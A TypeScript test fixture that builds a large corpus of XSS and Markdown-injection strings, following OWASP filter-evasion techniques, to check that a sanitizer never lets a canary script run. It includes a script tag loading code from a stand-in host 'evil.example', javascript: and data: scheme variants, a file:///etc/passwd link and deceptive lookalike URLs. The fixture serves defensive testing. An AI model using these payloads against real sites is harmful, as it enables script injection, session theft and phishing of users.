/**
 * Texts that try to become something else than text: what OWASP's filter evasion pages teach, written down for
 * Markdown too, and as many as one likes made by a seed.
 */

/** What a script does that got to run: the tests look whether it is set. */
export const canary = "__canary";
const run = `window.${canary}=1`;
const call = `window.${canary}=1//`;

const tags = [
	`<script>${run}</script>`,
	`<SCRIPT>${run}</SCRIPT>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`<script/x>${run}</script >`,
	`<script\n>${run}</script\t>`,
	`<script src="data:text/javascript,${run}"></script>`,
	`<script src=//evil.example/x.js></script>`,
	`"><script>${run}</script>`,
	`'-->"></textarea></title></style><script>${run}</script>`,
	`<![CDATA[<script>${run}</script>]]>`,
	`<!--<img src="--><img src=x onerror=${run}//">`,
	`<iframe src="javascript:parent.${canary}=1"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;parent.${canary}=1&lt;/script&gt;"></iframe>`,
	`<object data="javascript:${run}"></object>`,
	`<embed src="javascript:${run}">`,
	`<base href="javascript:${run}//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
	`<link rel=stylesheet href="javascript:${run}">`,
	`<style>@import 'javascript:${run}';*{background:url(javascript:${run})}</style>`,
	`<form action="javascript:${run}"><button>x</button></form>`,
	`<math><mi//xlink:href="data:x,<script>${run}</script>">`,
	`<template><script>${run}</script></template>`,
];

const handlers = [
	`<img src=x onerror=${run}>`,
	`<img src=x onerror="${run}">`,
	`<IMG SRC=x ONERROR=${run}>`,
	`<img src=x:x onerror\n=\n${run}>`,
	`<img/src=x/onerror=${run}>`,
	`<img src="x\` \`<script>${run}</script>"\` \`>`,
	`<svg onload=${run}>`,
	`<svg/onload=${run}>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<body onload=${run}>`,
	`<input autofocus onfocus=${run}>`,
	`<details open ontoggle=${run}>x</details>`,
	`<video><source onerror=${run}></video>`,
	`<marquee onstart=${run}>x</marquee>`,
	`<div style="width:expression(${run})">x</div>`,
	`<x onclick=${run} tabindex=1 id=x onfocus=${run}>x</x>`,
	`" onmouseover="${run}" x="`,
	`' onfocus='${run}' autofocus='`,
];

const escapes = [
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`&#60;script&#62;${run}&#60;/script&#62;`,
	`&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
	`&#0000060script&#0000062${run}`,
	`\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
	`\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
	`%3Cscript%3E${run}%3C/script%3E`,
	`＜script＞${run}＜/script＞`,
	`\u0000<scr\u0000ipt>${run}</script>`,
	`<\u202escript>${run}</script>`,
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`,
	`\${${run}}{{${run}}}<%=${run}%>`,
	`{{constructor.constructor('${run}')()}}`,
	`{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<script>${run}</script>"}}}`,
	"__proto__[innerHTML]=<img src=x onerror=alert(1)>",
];

const schemes = [
	`javascript:${call}`,
	`JaVaScRiPt:${call}`,
	`java\tscript:${call}`,
	`java\nscript:${call}`,
	`java\u0000script:${call}`,
	`\u0001javascript:${call}`,
	` javascript:${call}`,
	`javascript\u200b:${call}`,
	`javascript&colon;${call}`,
	`javascript&#58;${call}`,
	`javascript&#x3A;${call}`,
	`&#106;avascript:${call}`,
	`&#x6A&#x61&#x76ascript:${call}`,
	`javascript%3A${call}`,
	`\\javascript:${call}`,
	`javascript\\:${call}`,
	`javascript://x.example/%0A${run}`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>${run}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`DATA:image/svg+xml,<svg onload=${run}>`,
	`blob:https://x.example/1`,
	`file:///etc/passwd`,
	`view-source:javascript:${call}`,
	`feed:javascript:${call}`,
	`intent://x#Intent;scheme=javascript;end`,
	`//evil.example/x`,
	`http:/\\evil.example`,
	`https://`,
	`http://[::1`,
	`https://%00.example`,
	`https://bank.example@evil.example`,
	`https:javascript:${call}`,
];

/** A scheme in every form that Markdown has for a link. */
const forms: readonly ((address: string) => string)[] = [
	(address) => `[a](${address})`,
	(address) => `[a](<${address}>)`,
	(address) => `[a](${address} "title\\" onclick=${run}")`,
	(address) => `![a](${address})`,
	(address) => `<${address}>`,
	(address) => address,
	(address) => `[a][b]\n\n[b]: ${address}`,
	(address) => `[![a](${address})](${address})`,
	(address) => `||[**a**](${address})||`,
];

const tricks = [
	`[a](javascript:${call}\n)`,
	`[a]( javascript:${call} )`,
	`[a\\](javascript:${call})`,
	`[[a](https://x.example)](javascript:${call})`,
	`[a](https://x.example"onmouseover="${run})`,
	`[a](https://x.example 'x' onclick='${run}')`,
	`[<img src=x onerror=${run}>](https://x.example)`,
	`[\`<script>${run}</script>\`](https://x.example)`,
	`![x" onerror="${run}](https://x.example/x.png)`,
	`https://x.example/"onclick="${run}`,
	`https://x.example/<script>${run}</script>`,
	`<https://x.example/"onclick="${run}>`,
	`<javascript:${call}@x.example>`,
	`\`\`\`"><script>${run}</script>\n<script>${run}</script>\n\`\`\``,
	`\`\`\`js" onload="${run}\n${run}\n\`\`\``,
	`\`\`\`__proto__\nx\n\`\`\``,
	`\`\`\`constructor\nx\n\`\`\``,
	`\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
	`> <script>${run}</script>\n- <img src=x onerror=${run}>`,
	`||<img src=x onerror=${run}>||`,
	`**<script>**${run}**</script>**`,
	`\u202e[gpj.exe](https://x.example)\u202c`,
	`[a](${"(".repeat(40)}javascript:${call}${")".repeat(40)})`,
];

/** Over two hundred texts written by hand, or by hand in every form. */
export const hostileTexts: readonly string[] = [
	...tags,
	...handlers,
	...escapes,
	...tricks,
	...forms.slice(0, 2).flatMap((form) => schemes.map(form)),
	...schemes.flatMap((address, index) => forms[2 + (index % (forms.length - 2))]?.(address) ?? []),
	...schemes,
];

/** Numbers from 0 up to 1, the same ones for the same seed (mulberry32). */
function numbers(seed: number): () => number {
	let state = seed;
	return () => {
		state = (state + 0x6d2b79f5) | 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
	};
}

const pieces = [
	...[
		"*",
		"**",
		"_",
		"~~",
		"||",
		"`",
		"```",
		"```js\n",
		"[",
		"](",
		")",
		"![",
		"<",
		">",
		"\n> ",
		"\n- ",
		"\n1. ",
		"\n\n",
	],
	...["\\", "&#", ";", '"', "'", " ", "\n", "\t", "\u0000", "\u200b", "\u202e", "\u2066", "\ufeff", "😀", "עברית", "é"],
	...[
		"javascript:",
		"data:text/html,",
		"https://",
		"x.example",
		"@",
		"mailto:",
		"<script>",
		"</script>",
		"<img src=x ",
	],
	...["onerror=", "onclick=", run, "style=", "[a](", "[a]: ", "__proto__", "constructor", "a", "b c"],
];

/** Made of marks, tags, schemes and odd signs, strung together by a seed. Never blank, never ill-formed. */
export function generatedTexts(seed: number, count: number): string[] {
	const next = numbers(seed);
	return Array.from({ length: count }, (_, index) => {
		const length = 1 + Math.floor(next() ** 3 * 120);
		const made = Array.from({ length }, () => pieces[Math.floor(next() * pieces.length)]).join("");
		return `${index} ${made}`;
	});
}
